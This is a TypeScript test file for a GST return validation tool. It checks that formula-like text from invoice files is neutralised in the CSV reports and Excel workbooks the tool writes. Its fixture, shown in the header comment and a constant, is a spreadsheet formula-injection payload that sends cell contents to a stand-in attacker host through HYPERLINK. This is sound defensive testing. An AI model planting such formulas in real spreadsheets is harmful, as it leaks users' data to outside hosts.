/**
 * Text from the user's files that a spreadsheet would run as a formula (an invoice number
 * `=HYPERLINK("http://evil.example/?d="&A1;"x")`) stays text in everything the tool writes: the
 * CSV findings report (a leading ', as Excel needs there), the annotated workbook's cells and
 * Errors sheet, and to-excel's workbook.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { cli } from '../../test/helpers/cli.js';
import { FORMULA_START, reportCsv } from './findings-data.js';

const dir = mkdtempSync(join(tmpdir(), 'gstr1-formula-text-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const EVIL = '=HYPERLINK("http://evil.example/?d="&A1;"x")';
const HEADER = 'GSTIN/UIN of Recipient,Receiver Name,Invoice Number,Invoice date,Invoice Value,Place Of Supply,Reverse Charge,Applicable % of Tax Rate,Invoice Type,E-Commerce GSTIN,Rate,Taxable Value,Cess Amount';
const csvCell = (t: string) => `"${t.replace(/"/g, '""')}"`;

/** Every cell of every sheet whose text is `text`, with the value exceljs reads for it. */
async function cellsHolding(file: string, text: string): Promise<{ where: string; value: unknown }[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const found: { where: string; value: unknown }[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((c) => {
        const v = c.value as unknown;
        const formula = typeof v === 'object' && v !== null && 'formula' in v ? String((v as { formula: unknown }).formula) : undefined;
        if (v === text || (formula !== undefined && `=${formula}`.includes('HYPERLINK'))) found.push({ where: `${ws.name}!${c.address}`, value: v });
      }),
    ),
  );
  return found;
}

describe('formula-like text stays text', () => {
  it('the CSV report prefixes a formula with \', and leaves numbers and a lone dash alone', () => {
    const f = (value: string) => ({ code: 'DOCNUM_FORMAT', severity: 'error' as const, file: 'b2b.csv', row: 2, column: 'Invoice Number', value, params: { value, length: value.length } });
    const rows = Papa.parse<string[]>(reportCsv([f(EVIL), f('@SUM(A1)'), f('+91 98200'), f('\tx'), f('-1,500.00'), f('-'), f('INV/1')]).trim()).data.slice(1);
    expect(rows.map((r) => r[6])).toEqual([`'${EVIL}`, "'@SUM(A1)", "'+91 98200", "'\tx", '-1,500.00', '-', 'INV/1']);
    for (const r of rows) for (const cell of r) expect(FORMULA_START.test(cell), cell).toBe(false);
  });

  it('validate: the report, the annotated copy of a CSV and its Errors sheet', async () => {
    const csv = join(dir, 'b2b.csv');
    writeFileSync(csv, `${HEADER}\n29AAACR5055K1Z3,Kaveri,${csvCell(EVIL)},05-10-2025,11800,29-Karnataka,N,,Regular B2B,,18,10000,\n`);
    const report = join(dir, 'r.csv');
    const annotated = join(dir, 'a.xlsx');
    const r = await cli('validate', csv, '--gstin', '27AAKCS4821M1ZW', '--period', '102025', '--report', report, '--annotate', annotated);
    expect(r.code, r.stderr).toBe(1);
    const lines = Papa.parse<string[]>(readFileSync(report, 'utf8').trim()).data;
    expect(lines.find((l) => l[1] === 'DOCNUM_FORMAT')?.[6]).toBe(`'${EVIL}`);
    const cells = await cellsHolding(annotated, EVIL);
    expect(cells.map((c) => c.where)).toEqual(expect.arrayContaining([expect.stringMatching(/^Errors!/), expect.stringMatching(/^b2b,sez,de!C2$/)]));
    for (const c of cells) expect(typeof c.value, c.where).toBe('string');
  });

  it('to-excel: an invoice number of the JSON is written as text', async () => {
    const json = join(dir, 'ret.json');
    const inv = { inum: EVIL, idt: '05-10-2025', val: 11800, pos: '29', rchrg: 'N', inv_typ: 'R', itms: [{ num: 1, itm_det: { rt: 18, txval: 10000, iamt: 1800, csamt: 0 } }] };
    writeFileSync(json, JSON.stringify({ gstin: '27AAKCS4821M1ZW', fp: '102025', b2b: [{ ctin: '29AAACR5055K1Z3', inv: [inv] }] }));
    const out = join(dir, 'review.xlsx');
    const r = await cli('to-excel', json, '--out', out);
    expect(r.code, r.stderr).toBe(0);
    const cells = await cellsHolding(out, EVIL);
    expect(cells).toHaveLength(1);
    expect(typeof cells[0]!.value).toBe('string');
  });
});
